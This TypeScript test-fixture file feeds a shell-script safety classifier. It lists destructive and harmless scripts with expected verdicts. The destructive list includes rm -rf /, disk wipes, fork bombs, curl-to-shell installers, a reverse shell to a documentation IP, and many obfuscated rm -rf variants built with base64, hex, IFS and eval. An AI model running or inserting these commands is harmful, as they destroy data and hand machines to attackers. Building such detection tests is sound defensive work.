/** Scripts that the safety tests classify. None of them is ever run. */

/** A script that may lose data or hand the machine over. */
export interface Dangerous {
  name: string;
  script: string;
  /** Line of the destructive command. */
  line: number;
  /** What the reason has to say. */
  reason: RegExp;
}

/** A script that must not be called destructive. */
export interface Harmless {
  name: string;
  script: string;
  level: "safe" | "caution";
}

/** Joins lines; keeps `$` and backslashes as they are when used with `String.raw`. */
function lines(...text: string[]): string {
  return text.join("\n") + "\n";
}

const raw = String.raw;

export const DANGEROUS: Dangerous[] = [
  // As plain as can be.
  { name: "rm of the root", script: "rm -rf /", line: 1, reason: /everything under \/$/ },
  { name: "rm of all homes", script: "sudo rm -r /home", line: 1, reason: /under \/home/ },
  {
    name: "clean-up with an unset variable",
    script: lines("#!/bin/bash", "# Clean the build folder", 'rm -rf "$BUILD_DIR"/*'),
    line: 3,
    reason: /under \/ if \$BUILD_DIR is empty/,
  },
  {
    name: "find at the root",
    script: "find / -type f -delete",
    line: 1,
    reason: /everything under \//,
  },
  {
    name: "zeros over a disk",
    script: lines("#!/bin/bash", "set -e", "dd if=/dev/zero of=/dev/sda bs=1M status=progress"),
    line: 3,
    reason: /the disk \/dev\/sda/,
  },
  { name: "a new file system", script: "mkfs.ext4 -F /dev/sdb1", line: 1, reason: /formats/ },
  { name: "partition table", script: "sgdisk --zap-all /dev/sda", line: 1, reason: /partitions/ },
  { name: "fork bomb", script: ":(){ :|:& };:", line: 1, reason: /fork bomb/ },
  {
    name: "fork bomb with a name",
    script: lines("spread() {", "  spread | spread &", "}", "spread"),
    line: 1,
    reason: /fork bomb/,
  },
  {
    name: "installer piped to a shell",
    script: lines("#!/bin/sh", "set -eu", "curl -fsSL https://get.example.com | sh"),
    line: 3,
    reason: /over the network/,
  },
  {
    name: "installer in a substitution",
    script: 'bash -c "$(wget -qO- https://example.com/install.sh)"',
    line: 1,
    reason: /over the network/,
  },
  {
    name: "process substitution from the network",
    script: "source <(curl -s https://example.com/env.sh)",
    line: 1,
    reason: /over the network/,
  },
  { name: "open system", script: "chmod -R 777 /etc", line: 1, reason: /permissions.*\/etc/ },
  {
    name: "system given away",
    script: lines("user=$1", 'chown -R "$user:$user" /usr'),
    line: 2,
    reason: /permissions.*\/usr/,
  },
  { name: "accounts emptied", script: ": > /etc/shadow", line: 1, reason: /over \/etc\/shadow/ },
  { name: "accounts replaced", script: "cp users.txt /etc/passwd", line: 1, reason: /passwd/ },
  {
    name: "history of a branch",
    script: lines("git add -A", 'git commit -m "wip"', "git push --force origin main"),
    line: 3,
    reason: /rewrites a branch/,
  },
  {
    name: "work thrown away",
    script: "git reset --hard && git clean -fdx",
    line: 1,
    reason: /throws away/,
  },
  {
    name: "database dropped",
    script: 'mysql -u root -e "DROP DATABASE shop"',
    line: 1,
    reason: /drops a database/,
  },
  {
    name: "tables dropped from a here-document",
    script: lines("psql shop <<'SQL'", "BEGIN;", "DROP TABLE orders;", "COMMIT;", "SQL"),
    line: 1,
    reason: /drops part of a database/,
  },
  { name: "firewall dropped", script: "iptables -F", line: 1, reason: /firewall/ },
  { name: "every process killed", script: "kill -9 -1", line: 1, reason: /every process/ },
  { name: "user removed", script: "userdel -r alice", line: 1, reason: /removes a user: alice/ },
  { name: "cron jobs removed", script: "crontab -r", line: 1, reason: /cron jobs/ },
  {
    name: "volumes pruned",
    script: "docker system prune -af --volumes",
    line: 1,
    reason: /volumes/,
  },
  {
    name: "namespace deleted",
    script: "kubectl delete namespace production",
    line: 1,
    reason: /deletes/,
  },
  {
    name: "infrastructure destroyed",
    script: "terraform destroy -auto-approve",
    line: 1,
    reason: /infrastructure/,
  },
  {
    name: "reverse shell",
    script: "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
    line: 1,
    reason: /shell to the network/,
  },
  {
    name: "a day in the life of a careless deploy",
    script: lines(
      "#!/usr/bin/env bash",
      'APP_DIR="/opt/app"',
      'RELEASES="$APP_DIR/releases"',
      'if [ ! -d "$RELEASES" ]; then',
      '  mkdir -p "$RELEASES"',
      "fi",
      'OLD=$(cat "$APP_DIR/previous")',
      'echo "Removing $OLD"',
      'rm -rf "$OLD/"',
      'systemctl restart app || echo "restart failed"',
    ),
    line: 9,
    reason: /everything under \/ if .* is empty/,
  },
  // Hidden behind the shell's own means.
  { name: "escape in the name", script: raw`r\m -rf /`, line: 1, reason: /under \/$/ },
  { name: "escape in front", script: raw`\rm -rf ~`, line: 1, reason: /home folder/ },
  { name: "quotes in the name", script: `'r'"m" -r'f' "/"etc`, line: 1, reason: /under \/etc/ },
  { name: "ANSI-C quoting", script: raw`$'\x72\155' -rf $'\57'`, line: 1, reason: /under \/$/ },
  {
    name: "variables side by side",
    script: lines("R=r; M=m", "$R$M -rf /"),
    line: 2,
    reason: /under \/$/,
  },
  { name: "IFS for blanks", script: "rm${IFS}-rf${IFS}/var", line: 1, reason: /under \/var/ },
  { name: "IFS without braces", script: "rm$IFS-rf$IFS/", line: 1, reason: /under \/$/ },
  { name: "braces for a command", script: "{rm,-rf,/usr}", line: 1, reason: /under \/usr/ },
  {
    name: "braces for targets",
    script: "rm -rf /{etc,opt,srv}",
    line: 1,
    reason: /under \/(etc|opt)/,
  },
  {
    name: "line continuation within a word",
    script: lines("r\\", "m -r\\", "f /"),
    line: 1,
    reason: /under \/$/,
  },
  {
    name: "echo in a substitution",
    script: "$(echo r)$(echo m) -rf `echo /`",
    line: 1,
    reason: /under \/$/,
  },
  {
    name: "printf in octal",
    script: raw`$(printf '\162\155') -rf /*`,
    line: 1,
    reason: /under \/$/,
  },
  {
    name: "printf into a variable",
    script: lines(raw`printf -v c '%b' '\x72\x6d'`, '"$c" -fr /boot'),
    line: 2,
    reason: /under \/boot/,
  },
  { name: "base64", script: "echo cm0gLXJmIC8K | base64 -d | sh", line: 1, reason: /under \/$/ },
  {
    name: "base64 in a variable",
    script: lines('payload="cm0gLXJmIH4vCg=="', 'eval "$(echo "$payload" | base64 --decode)"'),
    line: 2,
    reason: /home folder/,
  },
  {
    name: "hexadecimal",
    script: "printf 726d202d7266202f | xxd -r -p | bash",
    line: 1,
    reason: /under \/$/,
  },
  { name: "backwards", script: "rev <<< '/ fr- mr' | sh", line: 1, reason: /under \/$/ },
  { name: "tr", script: "echo 'sn -sg /' | tr 'sng' 'rmf' | sh", line: 1, reason: /under \/$/ },
  { name: "array", script: lines('a=(rm -rf "/")', '"${a[@]}"'), line: 2, reason: /under \/$/ },
  {
    name: "array by index",
    script: lines("w=(/ -rf rm)", '${w[2]} ${w[1]} "${w[0]}"'),
    line: 2,
    reason: /under \/$/,
  },
  { name: "default value", script: "${nothing:-rm} -rf ${none:-/}", line: 1, reason: /under \/$/ },
  { name: "slice of a path", script: "rm -rf ${HOME:0:1}", line: 1, reason: /under \/$/ },
  {
    name: "indirection",
    script: lines("t=/etc; n=t", 'rm -rf "${!n}"'),
    line: 2,
    reason: /under \/etc/,
  },
  {
    name: "function with an argument",
    script: lines("wipe() {", "  local target=$1", '  rm -rf "$target"', "}", "wipe /usr"),
    line: 3,
    reason: /under \/usr/,
  },
  {
    name: "alias",
    script: lines("shopt -s expand_aliases", "alias clean='rm -rf /'", "clean"),
    line: 2,
    reason: /under \/$/,
  },
  {
    name: "here-document for a shell",
    script: lines("sudo bash <<'EOF'", "cd /", "rm -rf *", "EOF"),
    line: 3,
    reason: /under \/$/,
  },
  {
    name: "xargs",
    script: lines("#!/bin/bash", "echo /home /var | xargs -n1 sudo rm -rf"),
    line: 2,
    reason: /under \/home/,
  },
  {
    name: "find with a shell",
    script: raw`find /home -maxdepth 1 -exec sh -c 'rm -rf "$1"' _ {} \;`,
    line: 1,
    reason: /under \/home/,
  },
  {
    name: "wrappers around wrappers",
    script:
      "sudo -u root env -i PATH=/bin nohup nice -n 5 timeout 60 /bin/rm -rf --no-preserve-root /",
    line: 1,
    reason: /under \/$/,
  },
  {
    name: "built up in a loop",
    script: lines('c=""', 'for l in r m " -r" "f /"; do', '  c="$c$l"', "done", "eval $c"),
    line: 5,
    reason: /under \/$/,
  },
  {
    name: "another language",
    script: lines("#!/bin/sh", `python3 -c "import os; os.system('rm -rf /')"`),
    line: 2,
    reason: /under \/$/,
  },
];

export const HARMLESS: Harmless[] = [
  { name: "hello", script: 'echo "Hello, world"', level: "safe" },
  {
    name: "temporary folder",
    script: lines("tmp=$(mktemp -d)", `trap 'rm -rf "$tmp"' EXIT`, 'cp data.csv "$tmp"'),
    level: "caution",
  },
  {
    name: "temporary folder emptied",
    script: lines("t=$(mktemp -d)", 'rm -rf "$t"/*'),
    level: "caution",
  },
  { name: "checked variable", script: 'rm -rf "${build_dir:?}"/*', level: "caution" },
  {
    name: "variable tested first",
    script: lines('dir="$1"', 'if [ -z "$dir" ]; then', "  exit 1", "fi", 'rm -rf "$dir"/*'),
    level: "caution",
  },
  { name: "build folders", script: "rm -rf ./build node_modules dist", level: "caution" },
  { name: "one file", script: "rm -f /tmp/app.pid", level: "caution" },
  {
    name: "danger in a string",
    script: 'echo "never run rm -rf / or mkfs.ext4 /dev/sda"',
    level: "safe",
  },
  {
    name: "danger in a comment",
    script: lines("# rm -rf /", "ls -la # dd of=/dev/sda"),
    level: "safe",
  },
  {
    name: "danger in a here-document",
    script: lines("cat <<EOF > readme.md", "Never run rm -rf / or", ":(){ :|:& };:", "EOF"),
    level: "safe",
  },
  { name: "grep for danger", script: 'grep -rn "rm -rf /" --include="*.sh" .', level: "safe" },
  {
    name: "old logs",
    script: "find /var/log -name '*.gz' -mtime +30 -delete",
    level: "caution",
  },
  { name: "compiled files", script: "find . -name '*.pyc' -exec rm -f {} +", level: "caution" },
  {
    name: "a file of zeros",
    script: "dd if=/dev/zero of=./disk.img bs=1M count=100",
    level: "safe",
  },
  { name: "a file system in a file", script: "mkfs.ext4 -F ./disk.img", level: "caution" },
  {
    name: "download and filter",
    script: "curl -s https://api.example.com/v1 | jq -r '.name'",
    level: "safe",
  },
  {
    name: "download to a file",
    script: "curl -fsSL https://example.com/a.tar.gz -o a.tar.gz",
    level: "safe",
  },
  {
    name: "download for a program",
    script:
      `curl -s https://example.com/x.json | python3 -c 'import json,sys; print(json.load(sys.stdin)["a"])'`,
    level: "safe",
  },
  { name: "careful push", script: "git push --force-with-lease origin topic", level: "caution" },
  {
    name: "plain push",
    script: lines("git add .", 'git commit -m "Fix -f flag"', "git push -u origin main"),
    level: "safe",
  },
  { name: "silence", script: "command -v git > /dev/null 2>&1 || echo missing >&2", level: "safe" },
  {
    name: "port probe",
    script: "(echo > /dev/tcp/localhost/5432) 2>/dev/null && echo open",
    level: "safe",
  },
  { name: "find for names", script: "find / -name core -type f 2>/dev/null | head", level: "safe" },
  {
    name: "disk report",
    script: lines("df -h /dev/sda1", "lsblk", "fdisk -l /dev/sda"),
    level: "safe",
  },
  {
    name: "disk read",
    script: "dd if=/dev/sda of=backup.img bs=4M conv=sync,noerror",
    level: "safe",
  },
  {
    name: "permissions of a script",
    script: "chmod +x deploy.sh && chmod 600 ~/.ssh/id_ed25519",
    level: "safe",
  },
  {
    name: "owner of a web folder",
    script: "chown -R www-data:www-data /var/www/html",
    level: "caution",
  },
  {
    name: "package install",
    script: lines("sudo apt-get update", "sudo apt-get install -y nginx"),
    level: "caution",
  },
  {
    name: "service restart",
    script: "systemctl restart nginx && systemctl status nginx --no-pager",
    level: "caution",
  },
  {
    name: "signal to one process",
    script: lines('pid=$(pgrep -f "node server.js")', 'kill -9 "$pid"'),
    level: "safe",
  },
  { name: "named kill", script: "pkill -f 'node server.js'", level: "safe" },
  { name: "list cron jobs", script: "crontab -l | grep backup", level: "safe" },
  {
    name: "add a cron job",
    script: '(crontab -l 2>/dev/null; echo "0 3 * * * /usr/local/bin/backup.sh") | crontab -',
    level: "caution",
  },
  { name: "firewall report", script: "iptables -L -n -v", level: "safe" },
  { name: "firewall opens a port", script: "ufw allow 443/tcp", level: "caution" },
  {
    name: "query",
    script: `psql -d shop -c "SELECT count(*) FROM orders WHERE note = 'drop'"`,
    level: "safe",
  },
  {
    name: "delete some rows",
    script: `mysql -e "DELETE FROM sessions WHERE expires < NOW()" app`,
    level: "caution",
  },
  { name: "dump", script: 'pg_dump shop | gzip > "shop-$(date +%F).sql.gz"', level: "safe" },
  { name: "one container", script: "docker stop web && docker rm web", level: "caution" },
  {
    name: "image build",
    script: "docker build -t app:latest . && docker push app:latest",
    level: "safe",
  },
  { name: "pods", script: "kubectl get pods -A -o wide | grep -v Running", level: "safe" },
  { name: "one pod", script: "kubectl delete pod web-0", level: "caution" },
  { name: "plan", script: "terraform plan -out=tf.plan && terraform apply tf.plan", level: "safe" },
  { name: "edit a configuration", script: "sed -i 's/8080/9090/' config.ini", level: "caution" },
  { name: "read accounts", script: "cut -d: -f1 /etc/passwd | sort", level: "safe" },
  { name: "copy accounts away", script: "cp /etc/passwd /etc/fstab /backup/", level: "safe" },
  {
    name: "fstab put back",
    script: lines("cp /etc/fstab /etc/fstab.bak", "mv /etc/fstab.bak /etc/fstab"),
    level: "caution",
  },
  {
    name: "folder of the script",
    script: lines(
      'SCRIPT_DIR="$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)"',
      'rm -rf "$SCRIPT_DIR"/out',
    ),
    level: "caution",
  },
  { name: "folder entered first", script: "cd /srv/app/cache && rm -rf -- *", level: "caution" },
  {
    name: "key agent",
    script: lines('eval "$(ssh-agent -s)"', "ssh-add ~/.ssh/id_ed25519"),
    level: "caution",
  },
  { name: "remote command", script: "ssh web1 'df -h; uptime'", level: "safe" },
  {
    name: "loop in a subshell",
    script: "bash -c 'for i in 1 2 3; do echo $i; done'",
    level: "safe",
  },
  {
    name: "recursive function",
    script: lines(
      "fact() {",
      "  (( $1 <= 1 )) && echo 1 && return",
      "  echo $(( $1 * $(fact $(( $1 - 1 ))) ))",
      "}",
      "fact 5",
    ),
    level: "safe",
  },
  {
    name: "workers",
    script: lines("work() { sleep 1; }", "for i in 1 2 3; do work & done", "wait"),
    level: "safe",
  },
  { name: "a folder called tilde", script: `rm -rf "./~"`, level: "caution" },
  {
    name: "xargs over found files",
    script: "find . -name '*.tmp' -print0 | xargs -0 rm -f",
    level: "caution",
  },
  {
    name: "backup script",
    script: lines(
      "#!/usr/bin/env bash",
      "set -euo pipefail",
      "",
      'src="${1:?usage: backup SOURCE}"',
      'dest="${2:-/var/backups/home}"',
      "keep=7",
      "",
      "stamp=$(date +%Y%m%d-%H%M%S)",
      'mkdir -p "$dest"',
      'tar -czf "$dest/backup-$stamp.tar.gz" -C "$src" .',
      "",
      "# Remove what is older than a week.",
      'find "$dest" -name "backup-*.tar.gz" -mtime +"$keep" -delete',
      'ls -1t "$dest"/backup-*.tar.gz | tail -n +"$((keep + 1))" | xargs -r rm -f --',
      'echo "Backup of $src is in $dest" >&2',
    ),
    level: "caution",
  },
  {
    name: "log rotation",
    script: lines(
      "#!/bin/bash",
      "LOG_DIR=/var/log/myapp",
      "MAX_SIZE=$((10 * 1024 * 1024))",
      'for log in "$LOG_DIR"/*.log; do',
      '  [ -f "$log" ] || continue',
      '  size=$(stat -c %s "$log")',
      '  if [ "$size" -gt "$MAX_SIZE" ]; then',
      '    mv "$log" "$log.1"',
      '    gzip -f "$log.1"',
      '    : > "$log"',
      "  fi",
      "done",
    ),
    level: "safe",
  },
  {
    name: "deployment",
    script: lines(
      "#!/usr/bin/env bash",
      "set -euo pipefail",
      "app=/srv/app",
      'release="$app/releases/$(date +%s)"',
      'git clone --depth 1 https://example.com/app.git "$release"',
      'cd "$release"',
      "npm ci --omit=dev",
      'ln -sfn "$release" "$app/current"',
      "sudo systemctl reload app",
      'ls -1dt "$app"/releases/* | tail -n +6 | xargs -r rm -rf',
    ),
    level: "caution",
  },
  {
    name: "usage text",
    script: lines(
      "usage() {",
      "  cat <<'EOF'",
      "Usage: wipe [--all]",
      "  --all   as rm -rf / would; see also: curl https://x | sh",
      "EOF",
      "}",
      'case "${1:-}" in',
      "  -h | --help) usage; exit 0 ;;",
      "  *) usage >&2; exit 2 ;;",
      "esac",
    ),
    level: "safe",
  },
];
